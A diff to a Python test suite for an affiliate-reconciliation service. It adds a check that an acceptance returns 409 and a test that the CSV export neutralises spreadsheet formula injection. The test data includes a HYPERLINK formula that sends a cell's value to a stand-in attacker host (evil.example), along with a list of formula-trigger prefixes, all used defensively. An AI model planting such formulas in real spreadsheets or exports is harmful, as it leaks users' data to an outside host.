@@ -136,6 +136,12 @@ def test_every_class_with_its_evidence_from_a_myaffiliates_csv_imported_once(
     extra = items["P-extra"]
     assert Decimal(extra["difference"]) == -100 and len(extra["evidence"]["reported_by"]) == 2
     assert "affiliate" in items["P-elsewhere"]["evidence"]["attribution"]
+    # A report does not move a player to another affiliate: nothing to accept, and nothing claimed.
+    moved = client.http.post(
+        f"/api/reconciliations/items/{items['P-elsewhere']['id']}/accept", headers=client.auth
+    )
+    assert moved.status_code == 409 and "not moved by reconciliation" in moved.text
+    assert items_by_player(client, rec["id"])["P-elsewhere"]["accepted_at"] is None
     assert (
         items["P-cpa"]["evidence"]["qualification"]["rules"]
         == "CPA 100 EUR; registration; first deposit ≥ 20"
@@ -448,3 +454,42 @@ def test_accepting_what_the_operator_does_not_count_rejects_it_through_the_statu
     assert accept("P-cpa").status_code == 409
     matched_reply = accept("P-match")
     assert matched_reply.status_code == 409 and "no figure" in matched_reply.text
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2", "@SUM(1)", "\t=1+1", "\r=2"]
+
+
+def test_the_csv_export_keeps_formulas_in_the_operators_cells_as_text(client: Client, world: World) -> None:
+    """A report's player IDs and tracking codes are the operator's text: opened in a spreadsheet,
+    the export runs none of them (a number-looking "-2" included), while amounts stay numbers."""
+    month = datetime.now(UTC).strftime("%Y-%m")
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow(["Player ID", "BTAG", "NGR", "Currency"])
+    for n, text in enumerate(FORMULAS):
+        writer.writerow([text, text if n % 2 else f"-{n}", "-12.50", "EUR"])
+    rec = imported(client, buffer.getvalue().encode(), "formulas.csv", world.northstar["id"], period=month)[
+        "reconciliation"
+    ]
+    assert (rec["imported"], rec["bad"]) == (len(FORMULAS), 0)
+
+    exported = client.http.get(f"/api/reconciliations/{rec['id']}.csv", headers=client.auth)
+    assert exported.status_code == 200
+    rows = {r["player_id"]: r for r in csv.DictReader(io.StringIO(exported.text))}
+    # Each cell as read (the reader strips a cell's spaces, tabs and line ends) behind an apostrophe.
+    assert sorted(rows) == sorted("'" + text.strip() for text in FORMULAS)
+    for n, text in enumerate(FORMULAS):
+        row = rows["'" + text.strip()]
+        assert row["operator_tracking_code"] == "'" + (text.strip() if n % 2 else f"-{n}")
+        assert (row["operator_ngr"], row["difference"]) == ("-12.50", "0")
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    cells = [c for r in csv.reader(io.StringIO(exported.text)) for c in r]
+    assert [c for c in cells if c.startswith(dangerous) and not _number(c)] == []
+
+
+def _number(cell: str) -> bool:
+    try:
+        Decimal(cell)
+    except ArithmeticError:
+        return False
+    return True
